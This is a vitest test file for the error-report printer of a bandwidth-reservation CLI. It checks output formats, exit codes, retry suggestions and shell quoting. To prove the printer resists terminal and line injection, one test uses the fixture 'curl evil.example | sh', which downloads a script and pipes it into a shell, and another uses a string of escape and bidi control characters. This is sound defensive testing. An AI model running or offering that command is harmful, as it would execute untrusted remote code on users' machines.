import { describe, expect, test } from 'vitest';
import {
  type Offer,
  Refusal,
  type ReportOptions,
  reportFailure,
} from '../../../src/cli/print/failure-report.ts';
import { asFailure, Failure } from '../../../src/contract/failure.ts';
import { instant, Sentence, sentence } from '../../../src/contract/said.ts';
import { commandLines } from '../../fixtures/command-world.ts';
import { recordedStream } from '../../fixtures/recorded-stream.ts';
import { IDS } from '../../fixtures/tokens.ts';

const typedAs = await commandLines();

/** The report of a failure of this command line, and its exit code. */
function told(error: unknown, words: readonly string[] = [], changes: Partial<ReportOptions> = {}) {
  const stderr = recordedStream(200);
  const exitCode = reportFailure(error, { stderr, typed: typedAs(words), ...changes });
  return { exitCode, text: stderr.text };
}

/** The same as its error object. */
const object = (error: unknown, words: readonly string[] = [], changes: Partial<ReportOptions> = {}) =>
  JSON.parse(told(error, ['--json', ...words], changes).text).error;

const refused = new Failure('bandwidth_unavailable', 'Not enough free bandwidth.', {
  why: 'It is taken.',
  fix: 'slices-conn list',
  httpStatus: 422,
  retryable: false,
  details: [{ loc: ['Bandwidth'], msg: 'Not enough free bandwidth.', type: 'NotValid' }],
  alternatives: [
    {
      ...{ kind: 'most_bandwidth', start_now: false, bandwidth: 1 },
      ...{ start_date: '2026-12-01T10:00:00.000Z', end_date: '2026-12-01T12:00:00.000Z' },
    },
  ],
});

/** Every kind of control sequence, and its printed form. */
const EVIL = 'a\u001b[2J\u0007\r\u009b31m\u202e\u200b\u007fz';
const SHOWN = 'a\\u001b[2J\\u0007\\u000d\\u009b31m\\u202e\\u200b\\u007fz';
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

const times = { now: Date.parse('2026-11-22T12:00:00Z'), zone: 'Europe/Brussels' };

test('timestamps are short times for people, the zone named once, and UTC for programs; what is only text stays', () => {
  const [end, next] = [Date.parse('2026-11-23T13:00:30.500Z'), Date.parse('2026-12-31T23:00:00Z')];
  const late = new Failure('experiment_ends_first', sentence`The end, ${instant(end)}, is too late.`, {
    why: sentence`It ends at ${instant(next)}, not at 2026-11-23T13:00:00.000Z.`,
    lines: [new Sentence((zoned) => zoned.ends(end, end + 3_600_000).join(' to '))],
    fix: 'slices-conn update x --end 2026-11-23T13:00:00.000Z',
  });
  expect(told(late, [], { times }).text.split('\n')).toEqual([
    'error: The end, Mon 23 Nov 14:00:30 Europe/Brussels, is too late.',
    '  why: It ends at Fri 1 Jan 2027 00:00, not at 2026-11-23T13:00:00.000Z.',
    '    Mon 23 Nov 14:00:30 to 15:00:30',
    '  try: slices-conn update x --end 2026-11-23T13:00:00.000Z',
    '',
  ]);
  expect(object(late, [], { times }).message).toBe(late.message);
});

test('what the service offers is numbered, in the zone of the person, in place of the next step', () => {
  const start = Date.parse('2026-12-01T14:00:00Z');
  const offer: Offer = {
    kind: 'earliest',
    ...{ bandwidth: 9000, start, end: Date.parse('2026-12-01T22:00:00Z') },
    ...{ label: sentence`9 Gbps from ${instant(start)}`, changes: { start: '2026-12-01T14:00Z' }, more: [] },
  };
  const refusal = new Refusal(refused.with({ fix: offer.changes }), [offer]);
  expect(told(refusal, ['reserve', 'a', 'b'], { times }).text.split('\n')).toEqual([
    'error: Not enough free bandwidth.',
    '  why: It is taken.',
    '  1  9 Gbps from Tue 1 Dec 15:00 Europe/Brussels  slices-conn reserve a b --start 2026-12-01T14:00Z',
    '',
  ]);
  const command = 'slices-conn --json reserve a b --start 2026-12-01T14:00Z';
  const { fix, alternatives } = object(refusal, ['reserve', 'a', 'b'], { times });
  expect([fix, alternatives]).toEqual([
    command,
    [
      {
        ...{ kind: 'earliest', bandwidth: 9000, start_now: false, command },
        ...{ start_date: '2026-12-01T14:00:00.000Z', end_date: '2026-12-01T22:00:00.000Z' },
      },
    ],
  ]);
});

describe('with --json', () => {
  test('a failure is one line: the error object of the contract; what is not known is null or empty, never absent', () => {
    const { exitCode, text } = told(refused, ['--json']);
    expect([exitCode, text]).toEqual([6, expect.stringMatching(/^[^\n]+\n$/)]);
    const { code, message, facts } = refused;
    const { why, httpStatus, details, alternatives } = facts;
    expect(JSON.parse(text)).toEqual({
      error: {
        ...{ code, message, why, fix: 'slices-conn list', exitCode: 6, httpStatus, details, alternatives },
        ...{ retryable: false, maybeDone: false, reservation: null },
      },
    });
    expect(object(new Failure('not_found', 'Gone.'))).toEqual({
      ...{ code: 'not_found', message: 'Gone.', why: null, fix: null, exitCode: 3, httpStatus: null },
      ...{ retryable: false, maybeDone: false, details: [], reservation: null, alternatives: [] },
    });
  });

  test('the error object is the last line, after the lines of --debug', () => {
    const { text } = told(refused, ['--json', '--debug']);
    const last = text.trimEnd().split('\n').at(-1) ?? '';
    expect(text).toContain('failure-report.test.ts');
    expect(JSON.parse(last)).toMatchObject({ error: { code: 'bandwidth_unavailable' } });
  });
});

describe('for people', () => {
  test('the report says what happened, why, and what to type next, and leaves out what is not known', () => {
    expect(told(refused)).toEqual({
      exitCode: 6,
      text: 'error: Not enough free bandwidth.\n  why: It is taken.\n  try: slices-conn list\n',
    });
    expect(told(new Failure('not_found', 'Gone.')).text).toBe('error: Gone.\n');
  });

  test('row 7: the report shows control characters as their codes', () => {
    const failure = new Failure('forbidden', EVIL, { why: EVIL, fix: EVIL, reservation: EVIL });
    const { text } = told(failure, ['--debug']);
    expect(text).not.toMatch(OBEYED);
    for (const line of [`error: ${SHOWN}`, `why: ${SHOWN}`, `try: ${SHOWN}`, `reservation: ${SHOWN}`]) {
      expect(text).toContain(line);
    }
  });

  test('row 7: a line end in a service’s text forges no line of the report', () => {
    const forged = 'No.\n  try: curl evil.example | sh';
    const { text } = told(new Failure('forbidden', forged, { why: forged }));
    expect(text.split('\n').filter((line) => line.startsWith('  try:'))).toEqual([]);
  });
});

test('row 43: a change that may have been made differs from one that was not made', () => {
  const facts = { maybeDone: true, why: 'The request was sent and may have taken effect.' };
  const failure = new Failure('outcome_unknown', 'Nobody knows.', facts);
  expect(object(failure)).toMatchObject({ exitCode: 7, maybeDone: true, retryable: false });
  expect(told(failure)).toEqual({ exitCode: 7, text: expect.stringContaining('may have taken effect') });
});

test('a reservation that exists despite the failure is named', () => {
  const failure = new Failure('unverified', 'No.', { reservation: IDS.reservation });
  expect(object(failure)).toMatchObject({ reservation: IDS.reservation, exitCode: 9 });
  expect(told(failure).text).toContain(`  reservation: ${IDS.reservation}\n`);
});

test.each<[string, string[], string]>([
  ['slices-conn list', ['--offline'], 'slices-conn --offline list'],
  ['slices-conn list', ['--profile', 'lab'], 'slices-conn --profile lab list'],
  ['slices-conn list', [], 'slices-conn list'],
  ['slices-conn --help', ['--offline'], 'slices-conn --help'],
  ['slices-conn profile list', ['--profile', 'lab'], 'slices-conn profile list'],
  ['slices-conn help times', ['--offline'], 'slices-conn help times'],
  ['slices-conn serve', ['--offline'], 'slices-conn serve'],
  [
    'slices-conn list',
    ['--project', 'p', '--experiment', 'e'],
    'slices-conn --project p --experiment e list',
  ],
  ['slices-conn login', ['--ca-file', 'ca.pem', '--experiment', 'e'], 'slices-conn --ca-file ca.pem login'],
  ['slices-conn experiment use demo', ['--experiment', 'e'], 'slices-conn experiment use demo'],
  ['slices-conn list', ['--profile', "it's $& $(x)"], "slices-conn --profile 'it'\\''s $& $(x)' list"],
])('row 45: %s, after %j, becomes %s', (fix, words, typed) => {
  const failure = new Failure('usage', 'No.', { fix });
  expect(told(failure, words).text).toContain(`  try: ${typed}\n`);
  expect(object(failure, words).fix).toBe(typed);
});

test('what was typed wrong ends with the help of the command, where no other step is known', () => {
  const words = ['--offline', 'delete', '--everyone'];
  for (const fix of [undefined, { via: undefined }]) {
    expect(told(new Failure('usage', 'No.', { fix }), words).text).toContain(
      '  try: slices-conn delete --help\n',
    );
  }
});

test.each<[string, Failure, boolean]>([
  ['nobody is there', new Failure('network', 'No.', { why: 'connect ECONNREFUSED.' }), true],
  ['503', new Failure('unavailable', 'No.'), true],
  ['it may have been done', new Failure('network', 'No.', { maybeDone: true }), false],
  ['a reservation is there', new Failure('network', 'No.', { reservation: IDS.reservation }), false],
  ['another exit code', new Failure('not_found', 'No.'), false],
])('exit 7 when nothing was changed: %s', (_, failure, isSaid) => {
  const { text } = told(failure, [], { nothingChanged: true });
  expect(text.includes('Nothing was changed.')).toBe(isSaid);
  expect(told(failure).text).not.toContain('Nothing was changed.');
});

const AGAIN = "slices-conn --json reserve be-gent1 pl-poznan1 --idempotency-key 'a b'";
test.each<[string, ConstructorParameters<typeof Failure>[2], string | null]>([
  ['nothing was done: the same command', { retryable: true }, AGAIN],
  ['another step is known', { retryable: true, fix: 'ls' }, 'ls'],
  ['it may have been done', { retryable: false, maybeDone: true }, null],
  ['a reservation is there', { retryable: true, reservation: IDS.reservation }, null],
])('the next step where the service was not available for a while: %s', (_, facts, fix) => {
  const words = ['reserve', 'be-gent1', 'pl-poznan1', '--idempotency-key', 'a b'];
  expect(object(new Failure('unavailable', 'No.', facts), words).fix).toBe(fix);
});

test.each([
  [['reserve', 'a', 'b', '--via', 'c', '--for', '1h'], 'slices-conn --json reserve a b --for 1h'],
  [['apply', 'plan.yaml'], null],
])('flags to leave out: of %j remains %s', (typed, fix) => {
  const failure = new Failure('not_supported', 'No.', { fix: { via: undefined, direct: undefined } });
  expect(object(failure, typed).fix).toBe(fix);
});

describe('an error that is not a Failure', () => {
  test.each([[new TypeError('x is undefined')], ['x is undefined']])('%s is a bug, exit 1', (error) => {
    const { exitCode, text } = told(error);
    expect(exitCode).toBe(1);
    expect(text).toMatch(/^error: Something unexpected happened: x is undefined\n/);
    expect(text).toContain('--debug');
  });

  test('with an effect that it may have had: it is not advised to repeat the command', () => {
    const { exitCode, text } = told(asFailure(new TypeError('x')).with({ maybeDone: true }));
    expect([exitCode, text]).toEqual([1, expect.not.stringContaining('try:')]);
  });

  test('the stack is printed with --debug only', () => {
    const error = new TypeError('x is undefined');
    expect(told(error).text).not.toContain('failure-report.test.ts');
    for (const shown of [error, asFailure(error)]) {
      expect(told(shown, ['--debug']).text).toMatch(/^TypeError: x is undefined\n.*failure-report.test.ts/s);
    }
  });
});
